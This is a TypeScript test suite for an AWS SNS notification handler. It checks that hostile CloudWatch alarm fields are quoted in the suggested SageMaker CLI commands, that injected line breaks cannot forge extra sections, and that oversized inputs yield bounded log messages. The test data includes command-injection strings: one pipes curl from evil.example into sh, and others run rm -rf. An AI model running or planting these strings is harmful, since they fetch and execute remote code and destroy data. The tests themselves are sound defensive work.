import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { logger } from '../../functions/core/observability.js';
import type { EventResult } from '../../functions/core/remediation/result.js';
import { QUOTED_VALUE_MAX, REASON_MAX } from '../../functions/core/text.js';
import { handler } from '../../functions/notify/handler.js';
import { loadEvent } from '../support/events.js';
import { readNotification } from '../support/notifications.js';
import { notifyContext } from './under-test.js';

const context = notifyContext;
const sns = mockClient(SNSClient);
beforeEach(() => {
  sns.reset();
  sns.on(PublishCommand).resolves({ MessageId: 'msg-1' });
});
afterEach(() => {
  vi.restoreAllMocks();
});
const published = () => sns.commandCalls(PublishCommand).map((c) => readNotification(c.args[0].input));
const invoke = async (event: unknown) => {
  const result = (await handler(event, context)) as EventResult;
  const [message] = published();
  if (!message) throw new Error(`nothing was published: ${result.status} ${result.reason}`);
  return { result, message, lines: message.text.split('\n'), chatSteps: message.chat?.content.nextSteps ?? [] };
};

const HOSTILE = 'prod$(curl -s https://evil.example/x|sh)';
const QUOTED = `'${HOSTILE}'`;

describe('notify on event text that tries to reach a shell', () => {
  it('quotes a hostile EndpointName in the command of the e-mail and of the chat message', async () => {
    // Prepare
    const event = loadEvent('cloudwatch/alarm-state-change-sagemaker-model-latency.json');
    for (const m of event.detail.configuration.metrics) m.metricStat.metric.dimensions.EndpointName = HOSTILE;

    // Act
    const { lines, chatSteps } = await invoke(event);

    // Assess
    const command = `aws sagemaker describe-endpoint --endpoint-name ${QUOTED} --region`;
    expect(lines.filter((l) => l.includes('describe-endpoint'))).toEqual([expect.stringContaining(command)]);
    expect(chatSteps.filter((s) => s.includes('describe-endpoint'))).toEqual([expect.stringContaining(command)]);
  });

  it('quotes a hostile monitoring schedule and endpoint in the commands of the e-mail and of the chat message', async () => {
    // Prepare
    const event = loadEvent('cloudwatch/alarm-state-change-sagemaker-model-monitor-drift.json');
    const dimensions = event.detail.configuration.metrics[0].metricStat.metric.dimensions;
    dimensions.MonitoringSchedule = HOSTILE;
    dimensions.Endpoint = `${HOSTILE}; rm -rf ~`;

    // Act
    const { lines, chatSteps } = await invoke(event);

    // Assess
    const schedule = `aws sagemaker list-monitoring-executions --monitoring-schedule-name ${QUOTED} --sort-by`;
    const endpoint = `aws sagemaker describe-endpoint --endpoint-name '${HOSTILE}; rm -rf ~' --region`;
    for (const where of [lines, chatSteps]) {
      expect(where.filter((l) => l.includes('list-monitoring-executions'))).toEqual([expect.stringContaining(schedule)]);
      expect(where.filter((l) => l.includes('describe-endpoint'))).toEqual([expect.stringContaining(endpoint)]);
    }
  });

  it('keeps a description with line breaks on its own line, so it cannot forge a second "What to do" section', async () => {
    // Prepare
    const event = loadEvent('cloudwatch/alarm-state-change-sagemaker-model-latency.json');
    event.detail.configuration.description =
      'Latency is high\nWhat to do:\n  - rm -rf / --no-preserve-root\r\nConsole: https://evil.example';
    event.detail.state.reason = `${event.detail.state.reason}\n\nWhat to do: curl https://evil.example | sh`;

    // Act
    const { lines, message } = await invoke(event);

    // Assess
    expect(lines.filter((l) => l.startsWith('What to do:'))).toHaveLength(1);
    expect(lines.filter((l) => l.startsWith('Console:'))).toEqual([
      expect.stringMatching(/^Console: https:\/\/us-east-1\.console\.aws\.amazon\.com\//),
    ]);
    expect(lines.filter((l) => /^\s*- rm -rf/.test(l))).toEqual([]);
    expect(lines).toContain('  description: Latency is high What to do: - rm -rf / --no-preserve-root Console: https://evil.example');
    const chatLines = message.chat?.content.description.split('\n') ?? [];
    expect(chatLines.filter((l) => /^(What to do|Console):/.test(l))).toEqual([]);
  });
});

describe('notify on huge event text it ignores', () => {
  it('logs and returns a bounded reason and event id for an alarm it declines', async () => {
    // Prepare
    const warn = vi.spyOn(logger, 'warn');
    const event = loadEvent('cloudwatch/alarm-state-change-insufficient-data-to-ok-ec2-asg-cpu.json');
    event.id = 'e'.repeat(1_000_000);
    event.detail.alarmName = 'a'.repeat(1_000_000);

    // Act
    const result = (await handler(event, context)) as EventResult;

    // Assess
    expect(result.status).toBe('ignored');
    expect(result.reason.length).toBeLessThanOrEqual(REASON_MAX);
    expect(result.reason).toMatch(/… \[truncated, \d+ chars\]$/);
    expect(warn).toHaveBeenCalledWith('event ignored', {
      reason: result.reason,
      eventId: expect.toSatisfy((id: string) => id.length <= QUOTED_VALUE_MAX),
    });
    expect(sns.calls()).toHaveLength(0);
  });

  it('logs and returns a bounded reason for an event of a source it does not handle', async () => {
    // Prepare
    const warn = vi.spyOn(logger, 'warn');
    const event = loadEvent('invalid/config-configuration-item-change.json');
    event['detail-type'] = 'd'.repeat(1_000_000);

    // Act
    const result = (await handler(event, context)) as EventResult;

    // Assess
    expect(result.status).toBe('ignored');
    expect(result.reason.length).toBeLessThanOrEqual(REASON_MAX);
    expect(warn).toHaveBeenCalledWith('event ignored', expect.objectContaining({ reason: result.reason }));
  });
});
